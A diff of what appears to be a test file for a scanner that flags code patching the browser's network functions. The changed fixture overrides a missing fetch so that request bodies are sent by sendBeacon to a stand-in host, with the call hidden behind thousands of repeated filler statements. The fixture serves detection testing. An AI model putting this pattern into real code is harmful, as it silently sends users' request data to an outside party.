@@ -83,7 +83,7 @@ examine(patchesNetwork, {
     {
       when: 'what a browser lacks is given to it in a large bundle, and far from there something is asked for',
       files: {
-        'index.js': `const ask = (address, options) => real(address, options); self.fetch || (self.fetch = (address, options) => file(address, options)); ${'specimen(0); '.repeat(4_500)} function file(address, options) { return XMLHttpRequest.send('https://files.invalid/' + address, options); } const load = options => window.navigator.sendBeacon('https://files.invalid/', options.body); function real(address, options) { return load(options); } self.fetch = self.fetch || ask;`,
+        'index.js': `self.fetch || (self.fetch = (address, options) => ask(options)); ${'specimen(0); '.repeat(4_500)} function ask(options) { return navigator.sendBeacon('https://files.invalid/', options.body); }`,
       },
       weight: 'weak',
     },
